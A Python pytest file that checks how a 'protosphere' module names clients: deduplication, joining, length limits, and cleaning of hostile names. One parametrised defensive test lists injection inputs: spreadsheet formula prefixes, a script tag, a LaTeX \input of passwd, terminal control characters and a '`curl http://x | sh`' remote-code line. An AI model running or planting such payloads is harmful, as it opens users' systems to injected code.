"""What clients are called: whose name it is, that names differ, and what a hostile one can do."""

import pytest

from protosphere.core.client_names import (
    LONGEST_CLIENT_NAME,
    client_label,
    client_names,
    client_word,
    joined_names,
    use_client_names,
)


def named(*names):
    return client_names([{"partition": number, "name": name} for number, name in enumerate(names)])


def test_a_told_name_goes_before_the_domain_and_nobody_else_has_one():
    clients = [{"partition": 0, "name": "Berlin", "domain": "scans"}, {"partition": 1, "domain": "scans"}]
    names = client_names([*clients, {"partition": 2, "domain": ""}, {"partition": 3}])
    assert names == {0: "Berlin", 1: "scans"}
    assert [client_word(number, names) for number in (0, "1", 2)] == [
        "client 0 (Berlin)",
        "client 1 (scans)",
        "client 2",
    ]
    assert [client_label(number, names) for number in (1, 3)] == ["scans", "client 3"]


def test_no_two_clients_have_one_name():
    assert named("x", "y", "x") == {0: "x 1", 1: "y", 2: "x 2"}
    found = named("x", "x", "x 1", "x 1", "x 2")
    assert sorted(found) == [0, 1, 2, 3, 4]
    assert len(set(found.values())) == 5


@pytest.mark.parametrize(
    "hostile",
    [
        "=HYPERLINK(1)",
        "+1",
        "@SUM(A1)",
        "-1",
        '<script>alert("x")</script>',
        'Berlin) says: "stop"',
        "\\input{passwd} $x$ 5% #1 {y}",
        "one\ntwo\r\x1b[31m\u202ethree\u200b",
        "`curl http://x | sh`",
        "long " * 99,
    ],
)
def test_a_hostile_name_is_plain_words(hostile):
    name = named(hostile)[0]
    assert name.isprintable()
    assert len(name) <= LONGEST_CLIENT_NAME
    assert not set(name) & set('=()<>"`\\${}%#|;*^~[]')
    assert name[0] not in "+-@="


@pytest.mark.parametrize("name", ["client 1", "Client  1", "client-1 (x)", "client1", "\u200bclient 1", "", "  ", "()"])
def test_what_reads_like_another_client_or_nothing_is_no_name(name):
    assert named(name) == {}


def test_several_names_are_joined_and_stay_short():
    assert joined_names(["a", "b", "c"]) == "a, b, c"
    assert joined_names(["a", "b", "c", "d", "e"]) == "a, b, c + 2 more"
    assert named(joined_names(["a", "b", "c", "d"])) == {0: "a, b, c + 1 more"}
    long = joined_names([letter * 50 for letter in "abcdefg"])
    assert len(long) <= LONGEST_CLIENT_NAME
    assert long.endswith(" + 4 more")


def test_sentences_of_a_run_use_the_names_of_its_roster_until_the_next():
    use_client_names({3: "Rome"})
    assert [client_word(3), client_word(4), client_word(3, {})] == ["client 3 (Rome)", "client 4", "client 3"]
    use_client_names({})
    assert client_word(3) == "client 3"
